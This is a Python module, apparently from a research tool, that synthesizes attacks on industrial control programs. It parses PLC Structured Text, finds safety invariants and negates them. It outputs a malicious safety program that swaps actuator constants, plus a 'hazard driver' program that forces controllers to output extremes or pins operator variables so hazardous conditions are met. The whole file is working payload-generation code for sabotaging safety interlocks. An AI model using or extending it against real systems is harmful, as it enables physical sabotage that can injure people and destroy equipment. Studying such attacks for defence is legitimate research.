"""
This module stores the main business logic for negating invariants and
synthesizing the malicious safety program and the hazard driver program
"""

import logging
from dataclasses import replace

from ..errors import EmptyPlan, ImplicationOnly, NoInvariantFound
from ..invariants.models import (
    Action,
    AtomicPredicate,
    BindingKind,
    ControllerBinding,
    SafetyInvariant,
)
from ..invariants.services import (
    atomize,
    bind_controllers,
    extract_controllers,
    scan_invariants,
)
from ..st.evaluate import compare
from ..st.models import (
    Assign,
    BoolConst,
    CmpOp,
    DataType,
    IfStmt,
    Not,
    Program,
    RealConst,
    Stmt,
    VarDecl,
    VarKind,
)
from .models import (
    AttackArtifacts,
    AttackTerms,
    DirectEnforcement,
    Direction,
    DriverCommand,
    DriverPlan,
    Extreme,
    PayloadTerm,
    SynthMode,
    TermSpec,
    UnreachableAtom,
)

log = logging.getLogger(__name__)

DRIVER_PROGRAM_NAME = "HAZARD_DRIVER"
DORMANT_WARNING = "no drivable atoms; dormant attack only"


def negate_invariant(inv: SafetyInvariant) -> SafetyInvariant:
    """
    Negates an invariant by complementing the actuator constants.

    A one-armed invariant only gets its THEN value complemented; the
    returned invariant carries a warning that no disruption term exists.
    """
    if inv.else_value is None:
        warning = (
            f"invariant on {inv.actuator} has no ELSE branch; "
            "the disruption term is unavailable"
        )
        log.warning(warning, extra={"actuator": inv.actuator})
        return replace(
            inv, then_value=1 - inv.then_value, warnings=inv.warnings + (warning,)
        )
    return replace(inv, then_value=inv.else_value, else_value=inv.then_value)


def attack_terms(inv: SafetyInvariant) -> AttackTerms:
    """
    Splits the negated invariant into its disruption and hazard terms.

    Raises:
        ImplicationOnly: If the invariant has no ELSE branch.
    """
    if inv.else_value is None:
        raise ImplicationOnly(
            f"invariant on {inv.actuator} is implication-only; "
            "the biconditional form is required"
        )
    return AttackTerms(
        actuator=inv.actuator,
        disruption=TermSpec(
            condition=Not(inv.predicate), actuator_value=inv.safe_value
        ),
        hazard=TermSpec(condition=inv.predicate, actuator_value=inv.unsafe_value),
    )


def synth_safety_payload(p: Program) -> Program:
    """
    Builds F_ms: every matched IF has its actuator constants swapped 0 <-> 1
    in both branches at once.

    Raises:
        NoInvariantFound: If the program has no matching IF block.
    """
    return synth_term_payload(p, PayloadTerm.BOTH)


def synth_term_payload(p: Program, term: PayloadTerm) -> Program:
    """
    Builds the safety payload realising one term of the negated invariant.

    `HAZARD` flips only the THEN branch (the actuator stays unsafe while P
    holds), `DISRUPTION` flips only the ELSE branch (the actuator is forced
    safe during normal operation) and `BOTH` flips both.

    Raises:
        NoInvariantFound: If the program has no matching IF block.
        ImplicationOnly: If `DISRUPTION` is requested and no matched IF has
            an ELSE branch.
    """
    scan = scan_invariants(p)
    if not scan.invariants:
        raise NoInvariantFound(f"program {p.name} has no invariant to negate")
    if term is PayloadTerm.DISRUPTION and all(
        inv.implication_only for inv in scan.invariants
    ):
        raise ImplicationOnly(
            f"program {p.name} has no ELSE branch to build a disruption payload from"
        )

    stmts = list(p.stmts)
    for inv in scan.invariants:
        block = stmts[inv.stmt_index]
        assert isinstance(block, IfStmt)
        flip_then = term in (PayloadTerm.BOTH, PayloadTerm.HAZARD)
        flip_else = term in (PayloadTerm.BOTH, PayloadTerm.DISRUPTION)
        if inv.implication_only and term is not PayloadTerm.HAZARD:
            log.warning(
                "One-armed invariant, only the THEN branch can be flipped",
                extra={"actuator": inv.actuator, "stmt_index": inv.stmt_index},
            )
        stmts[inv.stmt_index] = replace(
            block,
            then_body=(
                _flip_body(block.then_body, inv.actuator)
                if flip_then
                else block.then_body
            ),
            else_body=(
                _flip_body(block.else_body, inv.actuator)
                if flip_else and block.else_body is not None
                else block.else_body
            ),
        )
    return replace(p, stmts=tuple(stmts))


def _flip_body(body: tuple[Stmt, ...], actuator: str) -> tuple[Stmt, ...]:
    flipped: list[Stmt] = []
    for stmt in body:
        if (
            isinstance(stmt, Assign)
            and stmt.target == actuator
            and isinstance(stmt.value, BoolConst)
        ):
            stmt = replace(stmt, value=BoolConst(1 - stmt.value.value))
        flipped.append(stmt)
    return tuple(flipped)


def direction_needed(atom: AtomicPredicate) -> Direction:
    """Which way the attack must move the atom's variable to make it true."""
    if atom.op in (CmpOp.GT, CmpOp.GE):
        return Direction.UP
    return Direction.DOWN


def forced_output(
    direction: Direction, action: Action, mode: SynthMode = SynthMode.SIGN_CONSISTENT
) -> Extreme:
    """
    Picks the controller output extreme that pushes the PV in `direction`.

    With e = SP - PV a direct-acting loop raises its output as the PV falls,
    so its actuator raises the PV; a reverse-acting actuator lowers it.
    `PAPER_LITERAL` reproduces the printed payload table instead, which
    forces the minimum of a direct-acting controller for a `>` atom. That
    table lists strict comparisons only: `>=` atoms take the `>` row and
    `<=` atoms the `<` row.
    """
    match mode:
        case SynthMode.SIGN_CONSISTENT:
            raises_pv = action is Action.DIRECT
            wants_up = direction is Direction.UP
            return Extreme.MAX if raises_pv == wants_up else Extreme.MIN
        case SynthMode.PAPER_LITERAL:
            if direction is Direction.UP:
                return Extreme.MIN if action is Action.DIRECT else Extreme.MAX
            return Extreme.MAX if action is Action.REVERSE else Extreme.MIN


def enforcement_value(atom: AtomicPredicate) -> float | None:
    """
    Value an operator variable is set to so that its atom holds.

    BOOL variables get the satisfying constant (None if neither 0 nor 1
    satisfies); REAL variables get the threshold moved one unit the needed way.
    """
    if atom.dtype is DataType.BOOL:
        for candidate in (1.0, 0.0):
            if compare(candidate, atom.op, atom.threshold):
                return candidate
        return None
    if direction_needed(atom) is Direction.UP:
        return atom.threshold + 1.0
    return atom.threshold - 1.0


def synth_hazard_driver(
    bindings: list[ControllerBinding], mode: SynthMode = SynthMode.SIGN_CONSISTENT
) -> tuple[DriverPlan, Program]:
    """
    Builds the hazard driver plan and F_mc from the atom bindings.

    Each controller-bound atom forces its controller output to the extreme
    that drives the PV toward the atom; each operator atom is enforced
    directly. F_mc holds these values as constant assignments every scan.

    Raises:
        EmptyPlan: If no atom can be driven; the caller falls back to a
            dormant attack. The error carries the all-unreachable plan.
    """
    commands: list[DriverCommand] = []
    enforcements: list[DirectEnforcement] = []
    unreachable: list[UnreachableAtom] = []
    warnings: list[str] = []
    forced: dict[str, Extreme] = {}
    enforced: dict[str, float] = {}

    for binding in bindings:
        atom = binding.atom
        match binding.mechanism:
            case BindingKind.CONTROLLER:
                ctrl = binding.controller
                assert ctrl is not None
                extreme = forced_output(direction_needed(atom), ctrl.action, mode)
                previous = forced.get(ctrl.instance_id)
                if previous is not None and previous is not extreme:
                    reason = f"conflicts with {ctrl.instance_id} forced {previous}"
                    warnings.append(f"{atom}: {reason}")
                    unreachable.append(UnreachableAtom(atom, reason))
                    continue
                forced[ctrl.instance_id] = extreme
                commands.append(
                    DriverCommand(
                        controller=ctrl.instance_id,
                        forced=extreme,
                        forced_value=(
                            ctrl.out_min if extreme is Extreme.MIN else ctrl.out_max
                        ),
                        out_target=ctrl.out_target,
                        target_atom=atom,
                    )
                )
            case BindingKind.DIRECT_ENFORCE:
                value = enforcement_value(atom)
                if value is None:
                    unreachable.append(
                        UnreachableAtom(atom, "no boolean value satisfies the atom")
                    )
                    continue
                if atom.var in enforced and enforced[atom.var] != value:
                    reason = f"conflicts with {atom.var} := {enforced[atom.var]:g}"
                    warnings.append(f"{atom}: {reason}")
                    unreachable.append(UnreachableAtom(atom, reason))
                    continue
                enforced[atom.var] = value
                enforcements.append(DirectEnforcement(atom.var, value, atom))
            case BindingKind.UNREACHABLE:
                unreachable.append(
                    UnreachableAtom(atom, binding.reason or "unreachable")
                )

    plan = DriverPlan(
        commands=tuple(commands),
        direct_enforcements=tuple(enforcements),
        unreachable=tuple(unreachable),
        mode=mode,
        warnings=tuple(warnings),
    )
    for item in unreachable:
        log.info(
            "Atom unreachable",
            extra={"atom": str(item.atom), "reason": item.reason},
        )
    if not plan.drivable:
        raise EmptyPlan("every atom of the invariant is unreachable", plan=plan)
    return plan, driver_program(plan)


def driver_program(plan: DriverPlan) -> Program:
    """Renders a plan as F_mc: constant assignments overriding each target."""
    decls: dict[str, VarDecl] = {}
    stmts: list[Stmt] = []
    for command in plan.commands:
        if command.out_target not in decls:
            decls[command.out_target] = VarDecl(
                name=command.out_target, dtype=DataType.REAL, kind=VarKind.ACTUATOR
            )
            stmts.append(
                Assign(command.out_target, RealConst(_real_text(command.forced_value)))
            )
    for enforcement in plan.direct_enforcements:
        atom = enforcement.target_atom
        if enforcement.variable in decls:
            continue
        decls[enforcement.variable] = VarDecl(
            name=enforcement.variable,
            dtype=atom.dtype,
            kind=VarKind.OPERATOR,
            unit=atom.unit,
        )
        if atom.dtype is DataType.BOOL:
            stmts.append(
                Assign(enforcement.variable, BoolConst(int(enforcement.value)))
            )
        else:
            stmts.append(
                Assign(enforcement.variable, RealConst(_real_text(enforcement.value)))
            )
    return Program(
        name=DRIVER_PROGRAM_NAME, decls=tuple(decls.values()), stmts=tuple(stmts)
    )


def _real_text(value: float) -> str:
    return repr(float(value))


def synthesize(
    safety: Program,
    control: Program | None,
    mode: SynthMode = SynthMode.SIGN_CONSISTENT,
    term: PayloadTerm = PayloadTerm.BOTH,
) -> AttackArtifacts:
    """
    Runs the whole payload pipeline on a safety and an optional control program.

    Every extracted invariant contributes its atoms to one driver plan. When
    no atom can be driven, F_mc is an empty program and the plan records
    that only a dormant attack is possible.

    Raises:
        NoInvariantFound: If the safety program holds no invariant.
    """
    scan = scan_invariants(safety)
    if not scan.invariants:
        raise NoInvariantFound(f"program {safety.name} has no invariant to negate")
    warnings = [
        f"skipped IF #{block.stmt_index}: {block.reason}" for block in scan.skipped
    ]
    warnings.extend(
        f"invariant on {inv.actuator} is implication-only"
        for inv in scan.invariants
        if inv.implication_only
    )

    f_ms = synth_term_payload(safety, term)
    controllers = extract_controllers(control) if control is not None else []
    symbols = safety.symbols
    bindings: list[ControllerBinding] = []
    for inv in scan.invariants:
        bindings.extend(bind_controllers(atomize(inv.predicate, symbols), controllers))

    try:
        plan, f_mc = synth_hazard_driver(bindings, mode)
    except EmptyPlan as e:
        log.warning(DORMANT_WARNING, extra={"program": safety.name})
        plan = e.plan if isinstance(e.plan, DriverPlan) else DriverPlan(mode=mode)
        plan = replace(plan, warnings=plan.warnings + (DORMANT_WARNING,))
        f_mc = Program(name=DRIVER_PROGRAM_NAME)
    plan = replace(plan, warnings=tuple(warnings) + plan.warnings)
    log.info(
        "Synthesized payload",
        extra={
            "program": safety.name,
            "mode": str(mode),
            "term": str(term),
            "commands": len(plan.commands),
            "direct_enforcements": len(plan.direct_enforcements),
            "unreachable": len(plan.unreachable),
        },
    )
    return AttackArtifacts(f_ms=f_ms, f_mc=f_mc, plan=plan)
